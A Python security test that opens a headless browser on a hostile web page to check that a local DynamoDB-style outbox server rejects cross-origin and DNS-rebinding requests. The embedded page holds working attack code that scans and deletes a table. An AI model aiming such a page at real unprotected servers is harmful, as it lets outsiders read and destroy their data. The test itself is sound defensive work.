#!/usr/bin/env python3
"""Checks with a real browser that a web page can neither read nor change a database that `postbox serve` serves.

    tests/deep/browser.py POSTBOX SERVER

POSTBOX is the command. The page tries to scan and to delete the outbox with the requests that a browser lets a page make.
SERVER is the example `serve`, the server of the same database engine, which does not check who makes a request. With it, each
attack works: the page reads and deletes the outbox.
"""

import http.client
import http.server
import json
import os
import queue
import subprocess
import sys
import tempfile
import threading
from urllib.parse import urlsplit

SECRET = "the body of m-1"
TIMEOUT_SECONDS = 60

# Each attempt reports the type and status of its response and the text that the page can read, or its error.
PAGE = """<!DOCTYPE html>
<form id="form" method="post" enctype="text/plain" action="TARGET" target="frame"><input name="{" value="}"></form>
<iframe name="frame"></iframe>
<script>
const json = 'application/x-amz-json-1.0', credentials = 'AWS4-HMAC-SHA256 Credential=any/20260131/eu-central-1/dynamodb/' +
    'aws4_request, SignedHeaders=host, Signature=any';
const call = (operation, mode, type) => ({method: 'POST', mode, body: '{"TableName": "brighter_outbox"}', headers: {
    'x-amz-target': 'DynamoDB_20120810.' + operation, 'x-amz-date': '20260131T120000Z', 'content-type': type,
    'authorization': credentials}});
async function attempt(name, request) {
    try {
        const response = await fetch('TARGET', request);
        return {name, type: response.type, status: response.status, text: await response.text()};
    } catch (error) {
        return {name, error: String(error)};
    }
}
async function attempts() {
    const results = [await attempt('health check', {})];
    for (const mode of ['cors', 'no-cors']) {
        for (const type of [json, 'text/plain']) {
            for (const operation of ['Scan', 'DeleteTable']) {
                results.push(await attempt(`${operation} ${mode} ${type}`, call(operation, mode, type)));
            }
        }
    }
    const frame = document.querySelector('iframe');
    const answered = new Promise(done => frame.onload = done);
    document.querySelector('form').submit();
    await answered;
    let text = null;
    try { text = frame.contentDocument.documentElement.textContent; } catch (error) {}
    results.push({name: 'form', text: text ?? ''});
    await fetch('/report', {method: 'POST', body: JSON.stringify(results)});
}
attempts();
</script>
"""


class Site(http.server.ThreadingHTTPServer):
    """A web site with the page. It forwards all other requests to a server, as if its name had been rebound to it."""

    def __init__(self, server):
        super().__init__(("127.0.0.1", 0), Visit)
        self.upstream = urlsplit(server).netloc
        self.url = f"http://127.0.0.1:{self.server_port}/"
        self.target, self.reports = None, queue.Queue()
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Visit(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path != "/page":
            return self.forward()
        return self.answer(200, "text/html", PAGE.replace("TARGET", self.server.target).encode())

    def do_POST(self):
        if self.path != "/report":
            return self.forward()
        report = json.loads(self.body())
        self.answer(200, "text/plain", b"")
        return self.server.reports.put(report)

    def do_OPTIONS(self):
        return self.forward()

    def body(self):
        return self.rfile.read(int(self.headers.get("content-length", 0)))

    def forward(self):
        connection = http.client.HTTPConnection(self.server.upstream)
        connection.request(self.command, self.path, self.body(), dict(self.headers.items()))
        response = connection.getresponse()
        self.answer(response.status, response.headers.get("content-type", ""), response.read())

    def answer(self, status, kind, content):
        self.send_response(status)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *arguments):
        pass


class Outbox:
    """An outbox with one message behind a server."""

    def __init__(self, command, server):
        self.process = subprocess.Popen(server, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                                        text=True)
        self.url = self.process.stdout.readline().strip() + "/"
        self.command = [command, "--endpoint-url", self.url, "--region", "eu-central-1"]
        self.run("create-table").check_returncode()
        self.run("deposit", "t", "-H", "id=m-1", text=SECRET).check_returncode()

    def run(self, *arguments, text=""):
        keys = {"AWS_ACCESS_KEY_ID": "any", "AWS_SECRET_ACCESS_KEY": "any"}
        return subprocess.run([*self.command, *arguments], input=text, capture_output=True, text=True, env=os.environ | keys)

    def ids(self):
        """Returns the ids of the messages, or none if the table does not exist any more."""
        listed = self.run("list", "--output", "json")
        if "create it" in listed.stderr:
            return []
        return [message["id"] for message in json.loads(listed.stdout)["messages"]]

    def stop(self):
        self.process.terminate()
        self.process.wait()


def visit(site, url, target, directory):
    """Opens the page in a browser and returns the results of its attempts."""
    site.target = target
    browser = subprocess.Popen(
        ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
         f"--user-data-dir={directory}/browser",
         f"--host-resolver-rules=MAP rebound.example 127.0.0.1:{site.server_port}", url + "page"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        return site.reports.get(timeout=TIMEOUT_SECONDS)
    finally:
        os.killpg(browser.pid, 9)
        browser.wait()


def read(results):
    """Returns the names of the attempts that read the message, which a Scan returns with its body in base64."""
    return [result["name"] for result in results if "m-1" in result.get("text", "")]


def check(name, command, server, run, succeeds):
    """Runs the page against a new outbox. `run` returns the site of the page, its URL, and the URL that it attacks."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as directory:
        outbox = Outbox(command, server)
        try:
            site, url, target = run(outbox.url)
            results = visit(site, url, target, directory)
            found, kept = read(results), outbox.ids()
        finally:
            outbox.stop()
        assert len(results) == 10, results
        if succeeds:
            assert found and kept == [], (found, kept, results)
        else:
            assert found == [] and kept == ["m-1"], (found, kept, results)
            answers = {result.get("status", 0) for result in results}
            assert answers <= {0, 403, 400}, results
    print("ok    ", name)


def from_another_origin(server):
    site = Site(server)
    return site, site.url, server


def rebound(server):
    return Site(server), "http://rebound.example/", "http://rebound.example/"


def main():
    command, unchecked = map(os.path.abspath, sys.argv[1:])
    checked = [command, "--embedded-db", ":memory:", "serve", "--port", "0"]
    for name, attack in [("a page of another origin", from_another_origin),
                         ("a page whose name was rebound to the server", rebound)]:
        check(f"{name} is rejected", command, checked, attack, succeeds=False)
        check(f"{name} reads and deletes an outbox without the check", command, [unchecked], attack, succeeds=True)
    print("4 passed")


main()
